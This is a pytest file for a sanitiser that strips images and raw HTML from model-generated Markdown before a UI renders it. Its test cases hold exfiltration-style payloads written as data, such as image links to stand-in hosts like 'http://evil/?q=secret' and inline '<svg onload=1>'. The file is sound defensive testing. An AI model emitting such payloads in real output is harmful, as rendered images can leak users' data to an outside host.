"""Model text rendered as Markdown can never fetch anything; code stays exactly as written.

Each case is checked on what a CommonMark renderer (markdown-it-py, with GFM tables as the browser's renderer
has them) makes of the neutralised text: no `<img>`, no raw HTML element.
"""

from __future__ import annotations

import re

import pytest

from ui.shared.render import neutralize_remote_media
from ui.shared.safe_markdown import neutralize


def rendered(markdown: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable("table").render(markdown)


FETCHING = re.compile(r"<(img|svg|video|audio|source|iframe|object|embed|link|div|style)\b", re.I)


def assert_fetches_nothing(markdown: str) -> str:
    html = rendered(neutralize(markdown))
    assert not FETCHING.search(html), html
    return html


@pytest.mark.parametrize(
    "attack",
    [
        "note ~~~ ![x](http://evil/?q=secret)",  # a tilde run mid-line is not a fence
        "see ``` then ![a](http://e/x)",  # nor is an unmatched backtick run
        "a `b ![i](http://e/1)",  # an unclosed code span is text, the image is live
        "\\![x](http://e/2) and \\\\![y](http://e/3)",  # an escaped `!` stays text, an escaped `\\` does not
    ],
    ids=["mid-line-tildes", "mid-line-backticks", "unclosed-span", "backslashes"],
)
def test_inline_fence_markers_do_not_hide_images(attack: str) -> None:
    assert_fetches_nothing(attack)


@pytest.mark.parametrize(
    "attack",
    [
        "![x][ref]\n\n[ref]: http://e/1",
        "![ref]\n\n[ref]: http://e/2",
        '![x][]\n\n[x]: <http://e/3> "title"',
        "![a [b] c](http://e/4)",
        "![a ![b](http://e/5)](http://e/6)",  # escaping the outer image must not free the inner one
        "[![badge](http://e/7)](http://link)",
        "![i](HTTP://E/8) ![j](HtTpS://e/9)",
        "![i](//evil/10) ![j](\\\\evil\\11)",
        "![i](data:image/png;base64,AAAA)",  # decision: no image of any kind, data: included
        "![i](/gradio_api/file=x)",  # nor a relative one, which would hit the local server
        '<img src="http://e/12"> <IMG SRC=//e/13> <svg onload=1> <!-- c --><video src=x>',
        "<div>\n![i](http://e/14)\n</div>",
        "> quote ![i](http://e/15)\n- item\n  ![j](http://e/16)\n# head ![k](http://e/17) #",
    ],
    ids=[
        "reference",
        "shortcut-reference",
        "collapsed-reference",
        "nested-brackets",
        "image-in-alt",
        "image-in-link",
        "uppercase-schemes",
        "protocol-relative",
        "data-uri",
        "relative",
        "raw-html",
        "html-block",
        "containers",
    ],
)
def test_no_image_or_html_survives(attack: str) -> None:
    assert_fetches_nothing(attack)


def test_a_neutralised_image_is_still_a_link_to_its_url() -> None:
    html = assert_fetches_nothing("see ![chart](https://example.com/c.png)")
    assert '<a href="https://example.com/c.png">chart</a>' in html


def test_a_backtick_freed_by_escaping_html_cannot_unhide_an_image() -> None:
    # In the original the first backtick is inside an HTML attribute and the code span hides the image;
    # once the tag is escaped, that backtick opens a different span and the image is outside code.
    assert_fetches_nothing('<a title="`">x</a> `![i](http://e/1)` end')


def test_a_pipe_ends_a_code_span_in_a_table_cell_as_gfm_says() -> None:
    assert_fetches_nothing("| a | b |\n|---|---|\n| `x | ![i](http://e/1) ` | y |")


def test_code_spans_and_blocks_are_left_exactly_as_written() -> None:
    text = (
        "Use `<img src=x>` or ``![a](b) ` `` here.\n\n"
        "```html\n<img src=x> ![a](b)\n```\n\n"
        "~~~\n<div>\n~~~\n\n"
        "    <b>indented ![c](d)</b>\n\n"
        "> ```\n> <i> ![e](f)\n> ```\n\n"
        "| code |\n|---|\n| `<td>` |"
    )
    assert neutralize(text) == text


def test_an_unclosed_fence_while_streaming_stays_code() -> None:
    assert neutralize("```\n<div> ![a](http://e/1)") == "```\n<div> ![a](http://e/1)"


def test_text_outside_code_looks_the_same_once_rendered() -> None:
    text = "1 < 2, a<=b, wow! [link](http://x) and <b>bold</b>"
    assert neutralize(text) == "1 < 2, a<=b, wow! [link](http://x) and &lt;b>bold&lt;/b>"
    assert "&lt;b&gt;bold&lt;/b&gt;" in rendered(neutralize(text))


def test_render_module_exposes_the_same_neutraliser() -> None:
    assert neutralize_remote_media("x ~~~ ![a](http://e/1)") == neutralize("x ~~~ ![a](http://e/1)")
